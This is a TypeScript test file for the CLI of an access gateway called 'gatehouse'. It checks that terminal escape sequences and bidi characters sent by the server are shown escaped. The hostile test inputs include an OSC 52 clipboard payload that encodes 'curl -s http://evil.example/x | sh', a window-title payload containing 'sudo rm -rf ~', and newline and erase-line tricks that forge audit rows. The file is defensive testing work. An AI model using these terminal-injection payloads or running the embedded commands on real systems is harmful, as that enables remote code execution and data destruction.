import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { processIo } from '../../src/cli/io.js';
import { apiError, CliHarness, FakeApi } from '../unit/cli/harness.js';

/**
 * Finding 7 (CLI side): every string the gateway sends is shown with its control characters
 * escaped, so a hostile user name, request reason or error message cannot move the cursor,
 * erase a line, set the window title or write the clipboard of whoever reads it. The fake API
 * plays a gateway that passes such strings through (or a hostile gateway).
 */

let api: FakeApi;
let cli: CliHarness;

beforeEach(async () => {
  api = await new FakeApi().start();
  cli = new CliHarness();
  cli.env.GATEHOUSE_SERVER = api.url;
  cli.env.GATEHOUSE_TOKEN = 'tok-admin';
});

afterEach(async () => {
  await api.stop();
  cli.cleanup();
});

/** What a terminal acts on instead of showing: C0 (but newline and tab), DEL, C1, bidi overrides. */
// eslint-disable-next-line no-control-regex -- finding these characters is the point of the test
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

const ERASE_LINE = '\u001b[2K\r';
const UP_ONE = '\u001b[1A';
const OSC52_CLIPBOARD = '\u001b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007';
const TITLE = '\u001b]0;sudo rm -rf ~\u0007';
const C1_CSI = '\u009b2K';

const request = (over: Record<string, unknown>): Record<string, unknown> => ({
  id: 'req-1', resource: 'prod-pg', requester: 'mallory', state: 'pending', stage: 0, reviews: [],
  createdAt: '2026-01-05T10:00:00Z', pendingUntil: '2026-01-06T10:00:00Z', version: 1, ...over,
});

describe('gatehouse audit', () => {
  it('an escape sequence in a PostgreSQL user name cannot rewrite its audit row to read "admin"', async () => {
    const forged = `x${ERASE_LINE}1     2026-01-05 11:00:00  admin`;
    api.on('GET /audit', {
      body: [{ seq: 7, at: '2026-01-05T10:00:00Z', actor: forged, action: 'login.failed', subject: 'postgres', data: { user: forged, door: 'postgres' }, prev: '', mac: '' }],
    });
    const r = await cli.run(['audit']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('x\\x1b[2K\\r1     2026-01-05 11:00:00  admin');
  });

  it('a right-to-left override in a user name cannot make it read backwards', async () => {
    api.on('GET /audit', {
      body: [{ seq: 1, at: '2026-01-05T10:00:00Z', actor: '\u202enimda', action: 'login.failed', subject: 'mysql', data: {}, prev: '', mac: '' }],
    });
    const r = await cli.run(['audit']);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\u202enimda');
  });
});

describe('gatehouse requests', () => {
  it('a request reason cannot erase the line above or write the approver\'s clipboard (OSC 52)', async () => {
    const reason = `routine${OSC52_CLIPBOARD}${UP_ONE}${ERASE_LINE}${TITLE}${C1_CSI}\u0007`;
    api.on('GET /requests', (c) => ({ body: c.query.get('view') === 'to-approve' ? [request({ reason, ticket: `CHG-1${ERASE_LINE}` })] : [] }));
    api.on('GET /resources', { body: [] });
    const r = await cli.run(['requests']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('routine\\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x07\\x1b[1A\\x1b[2K\\r');
    expect(r.stdout).toContain('\\u009b2K\\x07');
  });

  it('a newline in a request reason cannot add a forged row to the table', async () => {
    const reason = 'fix\nreq-9  prod-pg  admin      approved';
    api.on('GET /requests', (c) => ({ body: c.query.get('view') === 'to-approve' ? [request({ reason })] : [] }));
    api.on('GET /resources', { body: [] });
    const r = await cli.run(['requests']);
    expect(r.stdout.split('\n').filter(Boolean)).toHaveLength(2);
    expect(r.stdout).toContain('fix\\nreq-9  prod-pg  admin      approved');
  });

  it('--json stays JSON that carries the same strings, with no raw control character in it', async () => {
    const reason = `why${OSC52_CLIPBOARD}${C1_CSI}\u202e\u007f`;
    const list = [request({ reason })];
    api.on('GET /requests', (c) => ({ body: c.query.get('view') === 'to-approve' ? list : [] }));
    const r = await cli.run(['requests', '--json']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(r.stdout)).toEqual(list);
  });

  it('a denial comment followed by --wait cannot rewrite the requester\'s terminal', async () => {
    const denied = request({ state: 'denied', reviews: [{ approver: `eve${TITLE}`, decision: 'deny', stage: 0, at: '2026-01-05T12:00:00Z', comment: `no${ERASE_LINE}` }] });
    api.on('POST /requests', { body: request({}) });
    api.on('GET /resources', { body: [] });
    api.on('GET /requests/req-1', { body: { ...denied, version: 2 } });
    const r = await cli.run(['request', 'prod-pg', '--wait']);
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).toContain('denied by eve\\x1b]0;sudo rm -rf ~\\x07: no\\x1b[2K\\r');
  });
});

describe('other listings and messages', () => {
  it('a resource name, holder or state message cannot carry escape sequences into gatehouse resources', async () => {
    api.on('GET /resources', {
      body: [
        { name: `db${ERASE_LINE}`, type: 'database', protocol: 'postgres', host: 'h', port: 1, owner: 'o', access: [], settings: {}, state: { canConnect: false, lease: { holder: `bob${TITLE}`, expiresAt: '2026-01-05T13:00:00Z', mine: false } } },
        { name: 'web', type: 'machine', protocol: 'ssh', host: 'h', port: 22, owner: 'o', access: [], settings: {}, state: { canConnect: false, code: 'weird', message: `closed${OSC52_CLIPBOARD}` } },
      ],
    });
    const r = await cli.run(['resources']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('db\\x1b[2K\\r');
    expect(r.stdout).toContain('bob\\x1b]0;sudo rm -rf ~\\x07');
  });

  it('a session\'s client address cannot carry escape sequences into gatehouse sessions', async () => {
    api.on('GET /sessions', {
      body: [{ id: 's1', user: 'mallory', resource: 'prod-pg', protocol: 'postgres', state: 'live', client: `10.0.0.1${ERASE_LINE}`, startedAt: '2026-01-05T11:00:00Z', bytesIn: 0, bytesOut: 0, node: 'n' }],
    });
    const r = await cli.run(['sessions']);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('10.0.0.1\\x1b[2K\\r');
  });

  it('workflow lines from the server are shown escaped by gatehouse workflow show', async () => {
    api.on('GET /resources/prod-pg/workflow', { body: { resource: 'prod-pg', settings: {}, lines: [`MFA: none${TITLE}`], canConfigure: false } });
    const r = await cli.run(['workflow', 'show', 'prod-pg']);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toBe('  MFA: none\\x1b]0;sudo rm -rf ~\\x07\n');
  });

  it('an error message from the server stays one visible line on stderr', async () => {
    api.on('POST /resources/prod-pg/checkout', apiError(409, 'CHECKED_OUT', `held by bob${TITLE}\ngatehouse: fake second line${OSC52_CLIPBOARD}`));
    const r = await cli.run(['checkout', 'prod-pg']);
    expect(r.code).toBe(6);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).toMatch(/^gatehouse: [^\n]+\n$/);
    expect(r.stderr).toContain('held by bob\\x1b]0;sudo rm -rf ~\\x07\\ngatehouse: fake second line\\x1b]52;c;');
  });

  it('the process\'s own stdout and stderr escape too, not only the test harness', () => {
    const out = vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
    const err = vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
    try {
      const io = processIo();
      io.stdout(`a${ERASE_LINE}b\n`);
      io.stderr(`c${OSC52_CLIPBOARD}\n`);
      expect(out).toHaveBeenCalledWith('a\\x1b[2K\\rb\n');
      expect(err).toHaveBeenCalledWith('c\\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x07\n');
    } finally {
      out.mockRestore();
      err.mockRestore();
    }
  });
});
